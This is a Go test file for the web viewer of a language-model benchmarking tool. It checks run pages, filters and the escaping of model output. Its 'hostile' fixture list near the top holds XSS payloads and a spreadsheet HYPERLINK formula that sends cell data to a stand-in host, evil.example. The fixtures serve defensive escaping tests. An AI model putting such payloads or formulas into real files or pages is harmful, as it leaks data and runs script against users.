package web_test

import (
	"context"
	"encoding/json"
	"fmt"
	"html"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/fallacylab/fallacylab/store/sqlite"

	"github.com/fallacylab/fallacylab/bench/deflect"
	"github.com/fallacylab/fallacylab/bench/foils"
	"github.com/fallacylab/fallacylab/bench/missci"
	"github.com/fallacylab/fallacylab/bench/missciplus"
	"github.com/fallacylab/fallacylab/llm"
	"github.com/fallacylab/fallacylab/store"
	"github.com/fallacylab/fallacylab/web"
)

// hostile is model output that must render as text everywhere.
var hostile = []string{`<script>alert(1)</script>`, `<img src=x onerror=alert(2)>`, `</textarea><b>bold</b>`, `=HYPERLINK("http://evil.example/?d="&A1,"x")`, "- a Markdown bullet\n- and another"}

// seed builds a store with a small DeflectBench run whose model-a refuses
// every manipulation prompt and writes hostile text elsewhere, and a Scheme
// Foils run.
func seed(t testing.TB, models []string, samples int) (*sqlite.Store, int64, int64) {
	t.Helper()
	st, err := sqlite.Open(filepath.Join(t.TempDir(), "v.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	d, _, err := deflect.Synthesize(deflect.SynthOptions{Models: models, Samples: samples, Seed: 2, SoftFlip: 0.1,
		Refusal: func(m string, num int) float64 {
			if m == "model-a" && num == 4 {
				return 1
			}
			return 0
		}})
	if err != nil {
		t.Fatal(err)
	}
	for i := range d.Gens {
		if !strings.HasPrefix(d.Gens[i].Response, "I can't") {
			d.Gens[i].Response = hostile[i%len(hostile)] + " " + d.Gens[i].Response
		}
	}
	ctx := context.Background()
	id1, _ := st.StartRun(ctx, store.Run{Name: "deflect <b>run</b>", Benchmark: "deflect", Version: "test"})
	if err := deflect.SaveRecords(ctx, st, id1, d.Gens, d.Evals); err != nil {
		t.Fatal(err)
	}
	st.FinishRun(ctx, id1, store.RunDone)
	id2, _ := st.StartRun(ctx, store.Run{Name: "foils", Benchmark: "foils", Version: "test"})
	preds := []foils.Detection{
		{Condition: "native", ID: "n1", Text: hostile[0], Gold: "none", Pred: "none"},
		{Condition: "matched", ID: "appeal to authority#1", Text: "Experts agree. " + hostile[1], Source: "appeal to authority", Pred: "appeal to authority"},
		{Condition: "wrong_scheme", ID: "appeal to authority#1", Text: "Everyone does it.", Source: "appeal to authority", Target: "appeal to majority", Pred: ""},
	}
	rep := `{"schema":"fallacylab-report/1","title":"audit","benchmark":"schemefoils","meta":{"detector":"x"},"sections":[{"title":"Verdict","tables":[{"id":"flag_rates","title":"Flag rates","columns":[{"key":"condition","label":"condition"},{"key":"items","label":"items"},{"key":"flagged","label":"flagged"},{"key":"rate","label":"rate"}],"rows":[[{"kind":"text","text":"native"},{"kind":"int","value":1},{"kind":"int","value":0},{"kind":"prop","value":0,"lo":0,"hi":0.79,"n":1}]]}]}]}`
	audit := foils.AuditRecord{Corpus: "reddit", Detector: "x", Options: foils.AuditOptions{Seed: 1, Resamples: 50, Perms: 50},
		Detections: preds, Report: []byte(rep)}
	if err := foils.SaveAudits(ctx, st, id2, []foils.AuditRecord{audit}); err != nil {
		t.Fatal(err)
	}
	st.FinishRun(ctx, id2, store.RunDone)
	return st, id1, id2
}

func get(t *testing.T, h http.Handler, path string) (int, string, http.Header) {
	t.Helper()
	rec := httptest.NewRecorder()
	req := httptest.NewRequest("GET", path, nil)
	req.Host = "127.0.0.1:7411" // the viewer answers loopback hosts only
	h.ServeHTTP(rec, req)
	b, _ := io.ReadAll(rec.Body)
	return rec.Code, string(b), rec.Header()
}

func viewer(t testing.TB, st *sqlite.Store, set ...func(*web.Server)) http.Handler {
	v, err := web.New(st)
	if err != nil {
		t.Fatal(err)
	}
	v.Resamples = 50
	for _, f := range set {
		f(v)
	}
	return v.Handler()
}

func TestPages(t *testing.T) {
	st, id1, id2 := seed(t, []string{"model-a", "model-b"}, 1)
	h := viewer(t, st)
	code, body, hdr := get(t, h, "/")
	if code != 200 || !strings.Contains(body, fmt.Sprintf(`href="/runs/%d"`, id1)) || !strings.Contains(hdr.Get("Content-Security-Policy"), "default-src 'none'") {
		t.Fatalf("index %d", code)
	}
	if strings.Contains(body, "<b>run</b>") {
		t.Fatal("run name not escaped")
	}
	code, body, _ = get(t, h, fmt.Sprintf("/runs/%d", id1))
	if code != 200 || !strings.Contains(body, "/generations?frame=4+explicit+manipulation&amp;model=model-a&amp;outcome=refusal") {
		t.Fatalf("run page %d: heatmap links missing", code)
	}
	// A DeflectBench comparison names each run's judge panel.
	if _, cmpBody, _ := get(t, h, fmt.Sprintf("/compare?a=%d&b=%d&all=1", id1, secondDeflect(t, st, id1))); !strings.Contains(cmpBody, "<td>judges</td>") ||
		strings.Count(cmpBody, "synthetic:judge-a, synthetic:judge-b") != 2 {
		t.Fatalf("the comparison does not name the judge panels:\n%.1500s", cmpBody)
	}
	// Judged by another panel: the paired comparison says whose its
	// differences may be.
	other := secondDeflectJudged(t, st, id1, func(j string) string { return strings.Replace(j, "judge-a", "judge-<c>", 1) })
	if _, cmpBody, _ := get(t, h, fmt.Sprintf("/compare?a=%d&b=%d", id1, other)); !strings.Contains(cmpBody, "come from different judge panels") ||
		!strings.Contains(cmpBody, "synthetic:judge-&lt;c&gt;") || strings.Contains(cmpBody, "judge-<c>") {
		t.Fatalf("two panels, unsaid or unescaped:\n%.3000s", cmpBody)
	}
	// The report's method block: how the figures were made, and how a
	// cell reads.
	if !strings.Contains(body, `<dl class="method"><dt>models</dt>`) || !strings.Contains(body, "<dt>bootstrap</dt><dd>50 resamples") || !strings.Contains(body, "<dt>consensus</dt><dd>any</dd>") ||
		!strings.Contains(body, "<dt>judges</dt>") || !strings.Contains(body, "A rate reads") {
		i := strings.Index(body, "method")
		t.Fatalf("run page: no method block: %.600s", body[max(i, 0):])
	}
	code, body, _ = get(t, h, fmt.Sprintf("/runs/%d/generations?model=model-a&frame=4+explicit+manipulation&outcome=refusal", id1))
	// 80 claims × 3 manipulation templates × 1 sample, all refused.
	if code != 200 || !strings.Contains(body, "240 rows") || strings.Count(body, `class="gen`) != 50 {
		t.Fatalf("generations page %d:\n%.400s", code, body)
	}
	code, body, _ = get(t, h, fmt.Sprintf("/runs/%d/generations?model=model-b&outcome=refusal", id1))
	if code != 200 || !strings.Contains(body, "0 rows") {
		t.Fatal("model-b never refuses")
	}
	_, body, _ = get(t, h, fmt.Sprintf("/runs/%d/generations?disagree=1", id1))
	if !strings.Contains(body, `class="gen disagree"`) {
		t.Fatal("disagreement filter shows no disagreement")
	}
	_, body, _ = get(t, h, fmt.Sprintf("/runs/%d/generations?q=%s&page=2", id1, "L2_INT_01"))
	if !strings.Contains(body, "page 1 of 1") {
		t.Fatal("page beyond the end is not clamped")
	}
	code, body, _ = get(t, h, fmt.Sprintf("/runs/%d", id2))
	if code != 200 || !strings.Contains(body, "Flag rates") || !strings.Contains(body, "<svg") {
		t.Fatalf("foils page %d", code)
	}
	_, body, _ = get(t, h, fmt.Sprintf("/runs/%d/items?cond=wrong_scheme", id2))
	if !strings.Contains(body, "1 rows") || !strings.Contains(body, "<em>unparsed</em>") || !strings.Contains(body, "appeal to majority") {
		t.Fatalf("items page:\n%.600s", body)
	}
	if code, _, _ := get(t, h, "/runs/999"); code != 404 {
		t.Fatalf("unknown run: %d", code)
	}
	if code, _, _ := get(t, h, "/runs/abc"); code != 400 {
		t.Fatalf("bad id: %d", code)
	}
	if code, body, _ := get(t, h, "/static/app.css"); code != 200 || !strings.Contains(body, "svg.chart") {
		t.Fatal("css")
	}
}

func TestModelTextIsEscaped(t *testing.T) {
	st, id1, id2 := seed(t, []string{"model-a", "model-b"}, 1)
	h := viewer(t, st)
	for _, path := range []string{fmt.Sprintf("/runs/%d/generations?model=model-b", id1), fmt.Sprintf("/runs/%d/items", id2)} {
		_, body, _ := get(t, h, path)
		for _, x := range hostile {
			if html.EscapeString(x) != x && strings.Contains(body, x) { // a Markdown bullet has nothing to escape
				t.Fatalf("%s: raw %q in page", path, x)
			}
		}
		if !strings.Contains(body, "&lt;script&gt;alert(1)&lt;/script&gt;") && !strings.Contains(body, "&lt;img src=x onerror=alert(2)&gt;") {
			t.Fatalf("%s: hostile text not shown escaped", path)
		}
	}
	var js json.RawMessage
	_ = js
}

// BenchmarkGenerationsPage is the figure: one page of a
// 50,000-generation run (after the run is loaded once).
func BenchmarkGenerationsPage(b *testing.B) {
	models := []string{"m1", "m2", "m3", "m4", "m5", "m6", "m7"}
	st, id1, _ := seed(b, models, 6) // 7 × 1,200 × 6 = 50,400 generations
	v, _ := web.New(st)
	v.Resamples = 200
	h := v.Handler()
	warm := httptest.NewRecorder()
	h.ServeHTTP(warm, httptest.NewRequest("GET", fmt.Sprintf("/runs/%d/generations", id1), nil))
	if warm.Code != 200 {
		b.Fatal(warm.Code)
	}
	paths := []string{
		fmt.Sprintf("/runs/%d/generations?page=500", id1),
		fmt.Sprintf("/runs/%d/generations?model=m3&outcome=compliance_clean&page=3", id1),
		fmt.Sprintf("/runs/%d/generations?q=deflection+3&page=2", id1),
	}
	b.ResetTimer()
	for i := range b.N {
		rec := httptest.NewRecorder()
		h.ServeHTTP(rec, httptest.NewRequest("GET", paths[i%len(paths)], nil))
		if rec.Code != 200 {
			b.Fatal(rec.Code)
		}
	}
}

// missciRun stores a Missci reconstruction run on the dev split: half the
// lines with the gold class, half Other, every premise hostile text.
func missciRun(t *testing.T, st *sqlite.Store) int64 {
	t.Helper()
	ctx := context.Background()
	id, _ := st.StartRun(ctx, store.Run{Name: "missci", Benchmark: "missci", Version: "test"})
	args, _ := missci.Load("dev")
	m := missci.Record{Split: "dev", Source: "scripted", Preds: missci.Predictions{}}
	for i, a := range args {
		for _, l := range a.Lines {
			class := l.Fallacies[0].Class
			if i%2 == 1 {
				class = "Other"
			}
			m.Preds[l.ID] = []missci.Prediction{{Premise: hostile[0] + " premise", Class: class}}
		}
	}
	if err := missci.SaveRecord(ctx, st, id, m); err != nil {
		t.Fatal(err)
	}
	return id
}

func TestMissciPages(t *testing.T) {
	st, _, _ := seed(t, []string{"model-a"}, 1)
	id := missciRun(t, st)
	h := viewer(t, st)
	code, body, _ := get(t, h, fmt.Sprintf("/runs/%d", id))
	if code != 200 || !strings.Contains(body, "Per-class F1") || !strings.Contains(body, `id="arguments"`) {
		t.Fatalf("missci page %d", code)
	}
	// The page shows what `missci report` shows: every cut-off, Arg@t, METEOR.
	for _, want := range []string{`id="arg_t"`, "METEOR all", "Reconstruction by cut-off k"} {
		if !strings.Contains(body, want) {
			t.Fatalf("missci page lacks %q", want)
		}
	}
	_, body, _ = get(t, h, fmt.Sprintf("/runs/%d/arguments?wrong=1", id))
	if !strings.Contains(body, "15 rows") || strings.Contains(body, hostile[0]) || !strings.Contains(body, "&lt;script&gt;") {
		t.Fatalf("arguments page:\n%.500s", body)
	}
	if code, _, _ := get(t, h, fmt.Sprintf("/runs/%d/arguments", id-1)); code != 404 {
		t.Fatalf("non-Missci run: %d", code)
	}
}

func TestRunAboutBlock(t *testing.T) {
	st, id1, _ := seed(t, []string{"model-a"}, 1)
	ctx := context.Background()
	price := 0.5
	for i, key := range []string{"k1", "k2"} {
		c := store.Call{Key: key, Namespace: "prompts", Provider: "openai", Model: "gpt-x", Request: []byte(`{}`), Status: store.StatusOK,
			Attempts: 1, Response: &llm.Response{Text: "hi"}, Usage: llm.Usage{InputTokens: 10, OutputTokens: int64(5 + i)}, Cost: &price}
		if err := st.PutCall(ctx, c); err != nil {
			t.Fatal(err)
		}
	}
	id, _ := st.StartRun(ctx, store.Run{Name: "prompts", Benchmark: "prompts", Version: "v9", Config: []byte(`{"note":"<script>alert(3)</script>"}`)})
	st.LinkRun(ctx, id, "k1", "q1", false)
	st.LinkRun(ctx, id, "k2", "q2", true)
	h := viewer(t, st)
	code, body, _ := get(t, h, fmt.Sprintf("/runs/%d", id))
	if code != 200 {
		t.Fatalf("run page %d", code)
	}
	for _, want := range []string{"fallacylab v9", "running", "2 calls (1 from cache)", "<td>openai:gpt-x</td>", "spend $0.5000",
		"&lt;script&gt;alert(3)&lt;/script&gt;", fmt.Sprintf("fallacylab runs export %d", id)} {
		if !strings.Contains(body, want) {
			t.Fatalf("about block lacks %q:\n%s", want, body)
		}
	}
	if strings.Contains(body, "running · running") || !regexp.MustCompile(`About this run: [a-z]+ · (\d+[hms0-9]* so far|no end recorded) ·`).MatchString(body) {
		t.Fatalf("the about line of a run with no end says no elapsed time (before: \"running · running\"):\n%s", body)
	}
	if strings.Contains(body, "<script>") {
		t.Fatal("config snapshot not escaped")
	}
	// Benchmark pages carry the block too.
	if _, body, _ := get(t, h, fmt.Sprintf("/runs/%d", id1)); !strings.Contains(body, `<details class="about">`) {
		t.Fatal("DeflectBench page has no about block")
	}
	// A viewer of a store the user named by --db names it in the commands
	// its pages suggest (copied, a command without it read ./fallacylab.db).
	named := viewer(t, st, func(v *web.Server) {
		v.SetCommand(func(args string) string { return "fallacylab --db 'my runs.db' " + args })
	})
	want := fmt.Sprintf("fallacylab --db &#39;my runs.db&#39; runs export %d", id)
	if _, body, _ := get(t, named, fmt.Sprintf("/runs/%d", id)); !strings.Contains(body, want) {
		t.Fatalf("the run page of a named store lacks %q:\n%s", want, body)
	}
	if _, body, _ := get(t, named, "/studies"); !strings.Contains(body, "fallacylab --db &#39;my runs.db&#39; study links ID") {
		t.Fatalf("the studies page of a named store does not name it:\n%s", body)
	}
}

// liveRun is a running DeflectBench run holding all its generations and
// half its evals, and the whole dataset.
func liveRun(t *testing.T) (*sqlite.Store, int64, deflect.Dataset) {
	st, _, _ := seed(t, []string{"model-a"}, 1)
	ctx := context.Background()
	d, _, err := deflect.Synthesize(deflect.SynthOptions{Models: []string{"model-a"}, Samples: 1, Seed: 5})
	if err != nil {
		t.Fatal(err)
	}
	id, _ := st.StartRun(ctx, store.Run{Name: "live", Benchmark: "deflect", Version: "test"})
	if err := deflect.SaveRecords(ctx, st, id, d.Gens, d.Evals[:len(d.Evals)/2]); err != nil {
		t.Fatal(err)
	}
	return st, id, d
}

// TestRunInProgressIsReloaded: the viewer shows records saved after its first
// look at a run (the judging phase of a run in progress, say).
func TestRunInProgressIsReloaded(t *testing.T) {
	st, id, d := liveRun(t)
	ctx := context.Background()
	h := viewer(t, st, func(v *web.Server) { v.Refresh = 0 })
	rows := func() string {
		_, body, _ := get(t, h, fmt.Sprintf("/runs/%d/generations?model=", id))
		i := strings.Index(body, `class="pager"><p>`)
		if i < 0 {
			t.Fatalf("no pager:\n%.300s", body)
		}
		return strings.Fields(body[i+len(`class="pager"><p>`):])[0]
	}
	before := rows()
	// The judging phase stores the run's evals as a whole.
	if err := deflect.SaveRecords(ctx, st, id, nil, d.Evals); err != nil {
		t.Fatal(err)
	}
	after := rows()
	if before == after || after != fmt.Sprint(len(d.Gens)) {
		t.Fatalf("rows before %s, after %s; want all %d after the judging finished", before, after, len(d.Gens))
	}
}

// TestRunInProgressIsThrottled: a running run is loaded again at most once
// per Refresh, however often it is asked for; once it ends, at once.
func TestRunInProgressIsThrottled(t *testing.T) {
	st, id, d := liveRun(t)
	ctx := context.Background()
	h := viewer(t, st, func(v *web.Server) { v.Refresh = time.Hour })
	total := func() string {
		_, body, _ := get(t, h, fmt.Sprintf("/runs/%d/generations?model=", id))
		i := strings.Index(body, `class="pager"><p>`)
		return strings.Fields(body[i+len(`class="pager"><p>`):])[0]
	}
	before := total()
	if err := deflect.SaveRecords(ctx, st, id, nil, d.Evals); err != nil {
		t.Fatal(err)
	}
	if got := total(); got != before {
		t.Fatalf("reloaded within Refresh: %s rows, then %s", before, got)
	}
	if err := st.EndRun(ctx, id, store.RunDone, ""); err != nil {
		t.Fatal(err)
	}
	if got := total(); got != fmt.Sprint(len(d.Gens)) {
		t.Fatalf("after the run ended: %s rows, want %d", got, len(d.Gens))
	}
}

// TestGenerationPage: one generation's page has its prompt, whole answer,
// each judge's raw answer, and marks the rubric fields the judges disagree
// on; pages a run of another benchmark does not have are 404s.
func TestGenerationPage(t *testing.T) {
	st, id1, id2 := seed(t, []string{"model-a", "model-b"}, 1)
	h := viewer(t, st)
	_, list, _ := get(t, h, fmt.Sprintf("/runs/%d/generations?disagree=1&model=model-b", id1))
	i := strings.Index(list, fmt.Sprintf(`href="/runs/%d/generations/`, id1))
	if i < 0 {
		t.Fatalf("the list does not link its generations:\n%.500s", list)
	}
	link := list[i+len(`href="`):]
	link = link[:strings.Index(link, `"`)]
	code, body, _ := get(t, h, link)
	if code != 200 {
		t.Fatalf("%s: %d", link, code)
	}
	for _, want := range []string{`id="prompt"`, `id="answer"`, `<tr class="disagree"><th>soft_refusal</th>`, "raw answer", "judges disagree"} {
		if !strings.Contains(body, want) {
			t.Fatalf("%s lacks %q:\n%.3000s", link, want, body)
		}
	}
	for _, x := range hostile {
		if html.EscapeString(x) != x && strings.Contains(body, x) {
			t.Fatalf("raw %q on the generation page", x)
		}
	}
	for path, want := range map[string]int{
		fmt.Sprintf("/runs/%d/generations/no-such-gen", id1): 404,
		fmt.Sprintf("/runs/%d/generations", id2):             404, // a Scheme Foils run
		fmt.Sprintf("/runs/%d/items", id1):                   404, // a DeflectBench run
		"/runs/-1":                                           400,
	} {
		if code, body, _ := get(t, h, path); code != want || (path == "/runs/-1" && !strings.Contains(body, "no run -1")) {
			t.Errorf("%s: %d, want %d", path, code, want)
		}
	}
}

// TestListFilters: a typed filter matches as a substring, case aside; a
// value of the run (a heatmap link) matches exactly; a long answer is
// clipped in the list with "show all".
func TestListFilters(t *testing.T) {
	st, id1, _ := seed(t, []string{"model-a", "model-ab"}, 1)
	h := viewer(t, st)
	total := func(q string) string {
		_, body, _ := get(t, h, fmt.Sprintf("/runs/%d/generations?%s", id1, q))
		i := strings.Index(body, `class="pager"><p>`)
		return strings.Fields(body[i+len(`class="pager"><p>`):])[0]
	}
	all, exact, sub := total("model="), total("model=model-a"), total("model=MODEL")
	if exact == all || sub != all {
		t.Fatalf("all %s, model=model-a %s (exact), model=MODEL %s (substring)", all, exact, sub)
	}
	if d, f := total("frame=direct"), total("frame="); d == "0" || d == f {
		t.Fatalf("frame=direct: %s of %s", d, f)
	}
	ctx := context.Background()
	d, _ := deflect.LoadRecords(ctx, st, id1)
	d.Gens[0].Response, d.Gens[0].CallKey = strings.Repeat("word ", 400)+"END", ""
	deflect.SaveGens(ctx, st, id1, d.Gens)
	_, body, _ := get(t, h, fmt.Sprintf("/runs/%d/generations?q=END", id1))
	if !strings.Contains(body, "show all (2003 bytes)") {
		t.Fatalf("a long answer is not clipped:\n%.2000s", body)
	}
	// "show all" adds the rest: the answer is on the page once, whole.
	if n := strings.Count(body, "word"); n != 400 || !strings.Contains(body, "END") {
		t.Fatalf("the long answer shows %d of its 400 words (its start repeated?)", n)
	}
	// So does the page that puts every model's answers side by side (#27
	// item 5: its "show all" repeated the first 600 characters).
	i := strings.Index(body, fmt.Sprintf(`href="/runs/%d/compare?`, id1))
	if i < 0 {
		t.Fatal("the generations list links no side-by-side page")
	}
	link := strings.ReplaceAll(strings.SplitN(body[i+len(`href="`):], `"`, 2)[0], "&amp;", "&")
	_, across, _ := get(t, h, link)
	if n := strings.Count(across, "word"); n != 400 || !strings.Contains(across, "END") {
		t.Fatalf("the side-by-side page shows %d of the answer's 400 words", n)
	}
}

// TestRunList: the list names each run's models and spend (n/a for a run
// that called no model) and filters by benchmark.
func TestRunList(t *testing.T) {
	st, id1, id2 := seed(t, []string{"model-a"}, 1)
	h := viewer(t, st)
	_, body, _ := get(t, h, "/")
	if !strings.Contains(body, "<th>spend</th>") || !strings.Contains(body, ">n/a</td>") || !strings.Contains(body, `href="/?bench=deflect"`) {
		t.Fatalf("run list:\n%.3000s", body)
	}
	_, only, _ := get(t, h, "/?bench=deflect")
	if !strings.Contains(only, fmt.Sprintf(`href="/runs/%d"`, id1)) || strings.Contains(only, fmt.Sprintf(`href="/runs/%d"`, id2)) {
		t.Fatalf("?bench=deflect lists:\n%.3000s", only)
	}
	// A text filter (any of id, name, benchmark, models, status, case
	// aside) and a sort by any column.
	has := func(body string, id int64) bool {
		return strings.Contains(body, fmt.Sprintf(`<td><a href="/runs/%d">`, id))
	}
	// A run without calls (an audit of a built-in detector) names what its
	// phases ran rather than "—".
	if err := st.PutPhases(context.Background(), id2, []store.PhaseCount{{Seq: 1, Phase: "detection 1", Model: "tfidf-logreg(C=10)", Jobs: 3, Answered: 3}}); err != nil {
		t.Fatal(err)
	}
	if _, l, _ := get(t, h, "/"); !strings.Contains(l, `<td class="models">tfidf-logreg(C=10)</td>`) {
		t.Fatalf("the audit's detector is not named in the run list:\n%.3000s", l)
	}
	if _, f, _ := get(t, h, "/?q=FOILS"); !has(f, id2) || has(f, id1) {
		t.Fatalf("?q=FOILS lists:\n%.3000s", f)
	}
	if _, f, _ := get(t, h, "/?q=no-such-run"); !strings.Contains(f, "matching “no-such-run”") {
		t.Fatalf("a filter matching nothing:\n%.3000s", f)
	}
	_, up, _ := get(t, h, "/?sort=id")
	_, down, _ := get(t, h, "/?sort=id&desc=1")
	at := func(body string, id int64) int {
		return strings.Index(body, fmt.Sprintf(`<td><a href="/runs/%d">`, id))
	}
	if lo, hi := min(id1, id2), max(id1, id2); at(up, lo) > at(up, hi) || at(down, lo) < at(down, hi) || !strings.Contains(up, `class="sort current"`) {
		t.Fatal("?sort=id does not order the runs by id, both ways")
	}
}

// A run of a subset of the split (--limit, --sample-id) has its page, over
// the arguments it holds.
func TestMissciSubsetPage(t *testing.T) {
	st, _, _ := seed(t, []string{"model-a"}, 1)
	ctx := context.Background()
	id, _ := st.StartRun(ctx, store.Run{Name: "missci --limit 2", Benchmark: "missci", Version: "test"})
	args, _ := missci.Load("dev")
	m := missci.Record{Split: "dev", Source: "scripted", Preds: missci.Predictions{}}
	for _, a := range args[:2] {
		for _, l := range a.Lines {
			m.Preds[l.ID] = []missci.Prediction{{Premise: "p", Class: l.Fallacies[0].Class}}
		}
	}
	if err := missci.SaveRecord(ctx, st, id, m); err != nil {
		t.Fatal(err)
	}
	h := viewer(t, st)
	code, body, _ := get(t, h, fmt.Sprintf("/runs/%d", id))
	if code != 200 || !strings.Contains(body, "2 of 30 arguments") {
		t.Fatalf("the page of a limited Missci run: %d\n%.300s", code, body)
	}
	if _, body, _ := get(t, h, fmt.Sprintf("/runs/%d/arguments", id)); !strings.Contains(body, "2 rows") {
		t.Fatalf("arguments page of a limited run:\n%.400s", body)
	}
}

// TestUnfinishedRunPage: a run still running that holds no records its
// pages can show yet answers its page, with its progress and why, not 404;
// a finished run without records is still not found.
func TestUnfinishedRunPage(t *testing.T) {
	st, _, _ := seed(t, []string{"model-a"}, 1)
	h := viewer(t, st)
	ctx := context.Background()
	running, err := st.StartRun(ctx, store.Run{Name: "still generating", Benchmark: "deflect", Version: "test"})
	if err != nil {
		t.Fatal(err)
	}
	code, body, _ := get(t, h, fmt.Sprintf("/runs/%d", running))
	if code != 200 || !strings.Contains(body, "is running: its records are stored as its phases end") || !strings.Contains(body, "still generating") {
		t.Fatalf("a running run without records: %d\n%.1500s", code, body)
	}
	done, _ := st.StartRun(ctx, store.Run{Name: "empty", Benchmark: "deflect", Version: "test"})
	if err := st.EndRun(ctx, done, store.RunDone, ""); err != nil {
		t.Fatal(err)
	}
	if code, _, _ := get(t, h, fmt.Sprintf("/runs/%d", done)); code != 404 {
		t.Fatalf("a finished run without records: %d, want 404", code)
	}
}

// TestUnknownPage: a path the viewer does not have answers its own 404
// page (its layout and style sheet, so its theme), not a plain text line.
func TestUnknownPage(t *testing.T) {
	st, _, _ := seed(t, []string{"model-a"}, 1)
	code, body, hdr := get(t, viewer(t, st), "/no/such/page")
	if code != 404 || !strings.HasPrefix(hdr.Get("Content-Type"), "text/html") || !strings.Contains(body, `href="/static/app.css"`) || !strings.Contains(body, "no page /no/such/page") {
		t.Fatalf("unknown page: %d %s\n%.500s", code, hdr.Get("Content-Type"), body)
	}
}

// TestMissciCutOff: a Missci run page shows its report at the cut-off k the
// page is asked for (1…6 or all), says which, and refuses another.
func TestMissciCutOff(t *testing.T) {
	st, _, _ := seed(t, []string{"model-a"}, 1)
	m := missciRun(t, st)
	h := viewer(t, st)
	_, one, _ := get(t, h, fmt.Sprintf("/runs/%d", m))
	code, three, _ := get(t, h, fmt.Sprintf("/runs/%d?k=3", m))
	if code != 200 || three == one || !strings.Contains(three, fmt.Sprintf(`<a class="sort current" href="/runs/%d?k=3">3</a>`, m)) ||
		!strings.Contains(one, fmt.Sprintf(`<a class="sort current" href="/runs/%d?k=1">1</a>`, m)) {
		t.Fatalf("?k=3: %d, the same page as k = 1: %v", code, three == one)
	}
	if code, all, _ := get(t, h, fmt.Sprintf("/runs/%d?k=all", m)); code != 200 || all == three {
		t.Fatalf("?k=all: %d", code)
	}
	if code, _, _ := get(t, h, fmt.Sprintf("/runs/%d?k=9", m)); code != 400 {
		t.Fatalf("?k=9: %d, want 400", code)
	}
}

// TestLiveRunPage (#27 item 10): a running run's page shows its progress
// per phase and model, its rate, and what failed or was unusable so far,
// and reloads itself (an HTTP Refresh: no script, within the CSP); the run
// list puts running runs first; a finished run's page does not reload.
func TestLiveRunPage(t *testing.T) {
	st, id1, _ := seed(t, []string{"model-a"}, 1)
	h := viewer(t, st)
	ctx := context.Background()
	running, err := st.StartRun(ctx, store.Run{Name: "still generating", Benchmark: "deflect", Version: "test"})
	if err != nil {
		t.Fatal(err)
	}
	if err := st.PutPhases(ctx, running, []store.PhaseCount{{Seq: 1, Phase: "generation", Model: "openai:m", Jobs: 200, Answered: 90, Cached: 10, Unusable: 3, Failed: 10}}); err != nil {
		t.Fatal(err)
	}
	code, body, hdr := get(t, h, fmt.Sprintf("/runs/%d", running))
	if code != 200 || hdr.Get("Refresh") != "5" {
		t.Fatalf("a running run's page: %d, Refresh %q", code, hdr.Get("Refresh"))
	}
	for _, want := range []string{"<h2>Running</h2>", "reloads every 5 s", "calls/s", "3 unusable and 10 failed so far", `<td class="n">100</td><td class="n">200</td>`, "50 %"} {
		if !strings.Contains(body, want) {
			t.Errorf("the live block lacks %q:\n%.2500s", want, body)
		}
	}
	// A running run is not told it was interrupted.
	if strings.Contains(body, "interrupted") || !strings.Contains(body, "is running: its records are stored as its phases end") {
		t.Errorf("a running run's page explains its missing records as a stopped run's:\n%.2500s", body)
	}
	newer, _ := st.StartRun(ctx, store.Run{Name: "newer and done", Benchmark: "deflect", Version: "test"})
	if err := st.EndRun(ctx, newer, store.RunDone, ""); err != nil {
		t.Fatal(err)
	}
	if _, list, _ := get(t, h, "/"); strings.Index(list, fmt.Sprintf(`href="/runs/%d"`, running)) > strings.Index(list, fmt.Sprintf(`href="/runs/%d"`, newer)) {
		t.Error("the run list does not put the running run before a newer finished one")
	}
	if _, _, hdr := get(t, h, fmt.Sprintf("/runs/%d", id1)); hdr.Get("Refresh") != "" {
		t.Error("a finished run's page reloads itself")
	}
}

// TestOutputGrid (#27 item 11): DeflectBench's output grid — a row per
// claim, a column per model, each cell the claim's answers by exclusive
// outcome coloured by the most frequent, an answer on hover (escaped), a
// link to those answers — filtered by frame, level and outcome, and to the
// claims where the models part.
func TestOutputGrid(t *testing.T) {
	st, id1, _ := seed(t, []string{"model-a", "model-b"}, 2)
	h := viewer(t, st)
	code, body, _ := get(t, h, fmt.Sprintf("/runs/%d/grid", id1))
	if code != 200 || !strings.Contains(body, "<th>model-a</th><th>model-b</th>") || !strings.Contains(body, `<td class="o o-`) {
		t.Fatalf("grid: %d\n%.3000s", code, body)
	}
	if strings.Contains(body, "<script>") {
		t.Fatal("a model's answer reaches the grid unescaped")
	}
	rows := strings.Count(body, "<tr") - 1
	if !strings.Contains(body, fmt.Sprintf(`href="/runs/%d/generations?claim=`, id1)) {
		t.Fatal("grid cells do not link to their answers")
	}
	_, differ, _ := get(t, h, fmt.Sprintf("/runs/%d/grid?differ=1", id1))
	if d := strings.Count(differ, "<tr") - 1; d > rows || (d > 0 && !strings.Contains(differ, `<tr class="disagree"`)) {
		t.Fatalf("?differ=1 keeps %d of %d rows", d, rows)
	}
	for _, o := range []string{"refusal", "clean_compliance"} {
		_, only, _ := get(t, h, fmt.Sprintf("/runs/%d/grid?outcome=%s", id1, o))
		for _, row := range strings.Split(only, "<tr")[2:] {
			if !strings.Contains(row, "o-"+o) && !strings.Contains(row, map[string]string{"refusal": ">R", "clean_compliance": ">C"}[o]) && !strings.Contains(row, map[string]string{"refusal": " R", "clean_compliance": " C"}[o]) {
				t.Fatalf("?outcome=%s keeps a claim without it: %.300s", o, row)
			}
		}
	}
	if code, csv, hdr := get(t, h, fmt.Sprintf("/runs/%d/grid?export=csv", id1)); code != 200 || !strings.HasPrefix(hdr.Get("Content-Type"), "text/csv") ||
		!strings.HasPrefix(csv, "claim_id,claim,model-a:refusal,model-a:soft_refusal") || !strings.Contains(body, fmt.Sprintf("%d rows,", strings.Count(csv, "\n")-1)) {
		t.Fatalf("the grid as CSV: %d %v, %d lines\n%.500s", code, hdr, strings.Count(csv, "\n"), csv)
	}
	if code, _, _ := get(t, h, fmt.Sprintf("/runs/%d/grid?frame=no-such-frame", id1)); code != 200 {
		t.Fatalf("a frame with no answers: %d", code)
	}
}

// TestAnswerDiff (#27 item 11): from the side-by-side page, each model's
// answer links to a diff with the first model's: the two answers in two
// columns, what only the first has struck through, what only the second
// has underlined, model text escaped.
func TestAnswerDiff(t *testing.T) {
	st, id1, _ := seed(t, []string{"model-a", "model-b"}, 1)
	ctx := context.Background()
	d, _ := deflect.LoadRecords(ctx, st, id1)
	var a, b *deflect.Generation
	for i := range d.Gens {
		g := &d.Gens[i]
		if g.Model == "model-a" && a == nil {
			a = g
		}
	}
	for i := range d.Gens {
		g := &d.Gens[i]
